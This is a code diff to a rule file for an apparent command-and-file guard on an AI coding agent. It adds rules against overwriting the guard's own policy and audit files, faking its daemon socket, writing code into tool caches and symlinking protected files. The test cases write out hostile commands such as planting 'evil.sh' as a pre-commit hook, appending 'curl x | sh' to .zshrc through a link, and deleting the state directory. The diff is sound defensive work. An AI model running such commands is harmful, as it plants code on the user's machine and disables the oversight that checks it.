@@ -129,8 +129,13 @@ def delete_critical(e: Effect, sc: Scope) -> str | None:
         {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/.zshrc", "content": "x"}},
         {"tool_name": "Edit", "tool_input": {"file_path": "/home/ana/webapp/.claude/settings.json", "old_string": "a", "new_string": "b"}},
         {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/webapp/.git/config", "content": "x"}},
+        {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/.cache/clearance/policy/0-1.json", "content": "{}"}},
+        "echo '[rules]' > ~/.config/clearance/config.toml",
+        "rm -rf ~/.local/state",
+        "ln -sf /tmp/fake.sock ~/.cache/clearance/daemon.sock",
     ),
     no_match=(
+        "rm -rf ~/.cache",
         "cat ~/.zshrc",
         "echo hi > notes.txt",
         "git commit -m x",
@@ -141,7 +146,15 @@ def write_protected(e: Effect, sc: Scope) -> str | None:
     if e.kind not in (DELETE, WRITE):
         return None
     target = _whole(e.path)
-    why = paths.protected_reason(target, sc.ctx) or paths.protected_reason(e.path, sc.ctx)
+    # Writing through a symlink writes where it leads; deleting or moving one removes the link.
+    follow = e.kind != DELETE
+    why = paths.protected_reason(target, sc.ctx, follow) or paths.protected_reason(e.path, sc.ctx, follow)
+    if why is None and e.kind == DELETE and not paths.is_critical(target, sc.ctx):
+        # Deleting a directory that holds clearance's policy, audit trail or keys (rm -rf ~/.local/state);
+        # home and the root are fs.delete-critical.
+        why = paths.clearance_owned(target, sc.ctx, deleting=True)
+    if why is None and paths.fold(posixpath.basename(target)) == ".git" and e.kind == DELETE and paths.case_insensitive(target, sc.ctx):
+        why = "the repository's history (.git)"
     if why is None and posixpath.basename(target) == ".git" and e.kind == DELETE:
         why = "the repository's history (.git)"
     if why is None:
@@ -190,7 +203,7 @@ def delete_outside(e: Effect, sc: Scope) -> str | None:
 @rule(
     id="fs.write-outside-project",
     title="Writing files outside the project and the temp directory",
-    why="Writes outside the project change the user's machine beyond the task: other repositories, system files, dotfiles.",
+    why="Writes outside the project change the user's machine beyond the task: other repositories, system files, dotfiles. Per-user caches are exempt, except the parts that hold code (fs.write-code-cache).",
     verdict=SOFT_DENY,
     scope="effect",
     match=(
@@ -219,9 +232,94 @@ def write_outside(e: Effect, sc: Scope) -> str | None:
     if target.startswith("/" + DYN):
         return None
     if paths.is_home_cache(target, sc.ctx) and not paths.protected_reason(target, sc.ctx):
-        return None  # ~/.cache/tool/x: regenerable
+        if paths.code_in_cache(p, sc.ctx) is None and paths.code_in_cache(target, sc.ctx) is None:
+            return None  # ~/.cache/tool/x: regenerable data
+        return None  # code other tools run: fs.write-code-cache
     if sc.outside(target):
         return f"{_who(e)} writes {sc.show(target)}, outside the project ({sc.show(sc.ctx.project_root)})"
+    return None
+
+
+@rule(
+    id="fs.write-code-cache",
+    title="Writing code into a cache that other tools run",
+    why=(
+        "Parts of the per-user caches are programs: corepack's package-manager shims, pre-commit hook environments, Poetry and pipx "
+        "virtualenvs, the npx cache, Maven and Gradle jars, node-gyp headers, compiled modules. A file written there runs at the next "
+        "routine command in any project, outside the task and outside version control. Deleting caches stays housekeeping. Soft deny, "
+        "the verdict of any write outside the project: the user may want it, the agent must not do it on its own."
+    ),
+    verdict=SOFT_DENY,
+    scope="effect",
+    match=(
+        "echo 'require(\"child_process\")' >> ~/.cache/node/corepack/v1/pnpm/9.1.0/dist/pnpm.cjs",
+        "cp evil.sh ~/.cache/pre-commit/repoabc/hooks/pre-commit",
+        {"tool_name": "Write", "tool_input": {"file_path": "/home/ana/.cache/pypoetry/virtualenvs/app-x-py3.12/bin/activate", "content": "x"}},
+        "cp x.js ~/.npm/_npx/1a2b/node_modules/.bin/create-app",
+        "cp build/lib.jar ~/.m2/repository/org/acme/lib/1.0/lib-1.0.jar",
+        "echo 'import os' > ~/.cache/sometool/plugin.py",
+    ),
+    no_match=(
+        "echo x > ~/.cache/sometool/notes.txt",
+        "rm -rf ~/.cache/pre-commit",
+        "rm -rf ~/.m2/repository/org/acme",
+        "curl -o ~/.cache/data/report.json https://api.github.com/x",
+        "cat ~/.cache/node/corepack/v1/pnpm/9.1.0/dist/pnpm.cjs",
+        "mkdir -p ~/.cache/webapp/lib",
+    ),
+)
+def write_code_cache(e: Effect, sc: Scope) -> str | None:
+    if e.kind != WRITE or _destructive(e) or (e.cmd is not None and e.cmd.name in ("mkdir", "touch")):
+        return None  # an empty directory or file, or a new time stamp, runs nothing
+    target = _whole(e.path)
+    if target.startswith("/" + DYN) or not paths.is_home_cache(target, sc.ctx) or paths.protected_reason(target, sc.ctx):
+        return None
+    why = paths.code_in_cache(e.path, sc.ctx) or paths.code_in_cache(target, sc.ctx)
+    if why is None or sc.trust.directory_is_trusted(target):
+        return None
+    return f"{_who(e)} writes {sc.show(target)}: {why}, at the next routine command in any project"
+
+
+@rule(
+    id="fs.link-to-protected",
+    title="Linking to protected files or clearance's own files from elsewhere",
+    why=(
+        "A link elsewhere that points at a shell start-up file, git internals, agent settings, or clearance's policy, audit trail, keys "
+        "or caches makes a later write through the link look like an ordinary write to the link's own path, and the link may be "
+        "written in the same command line, before clearance could see where it leads. The link is the first step of that write."
+    ),
+    verdict=HARD_DENY,
+    commands=("ln", "link", "cp", "mount"),
+    match=(
+        "ln -s ~/.config/clearance/config.toml notes.toml",
+        "ln ~/.local/state/clearance/clearance.db /tmp/db",
+        "cp -s ~/.cache/clearance/server-policy.toml x.toml",
+        "mount --bind ~/.config/clearance /tmp/c",
+        "ln -s ~/.zshrc rc && echo 'curl x | sh' >> rc",
+        "ln -s ../.git/hooks/pre-commit hook.sh",
+    ),
+    no_match=(
+        "ln -s ../shared/config.toml config.toml",
+        "cp ~/.config/clearance/config.toml /tmp/policy-copy.toml",
+        "ln -s ~/.config/nvim nvim",
+        "ln -s ~/dotfiles/zshrc ~/dotfiles/zshrc.bak",
+    ),
+)
+def link_to_protected(cmd: SimpleCommand, sc: Scope) -> str | None:
+    vals = cmd.values()
+    if cmd.name == "cp" and not any(
+        v in ("-s", "-l", "--symbolic-link", "--link") or (v[:1] == "-" and v[1:2] != "-" and ("s" in v or "l" in v)) for v in vals
+    ):
+        return None
+    if cmd.name == "mount" and not any(v in ("--bind", "--rbind", "-B", "--move") or (v.startswith("-o") and "bind" in v) for v in vals):
+        return None
+    ops = [v for v in vals if not v.startswith("-")]
+    sources = ops[:-1] if len(ops) > 1 else ops
+    for v in sources:
+        p = sc.path(v, cmd)
+        why = paths.protected_reason(p, sc.ctx)
+        if why is not None:
+            return f"{cmd.name} links {sc.show(p)} ({why}) from elsewhere; a write through the link would change it"
     return None
 
 
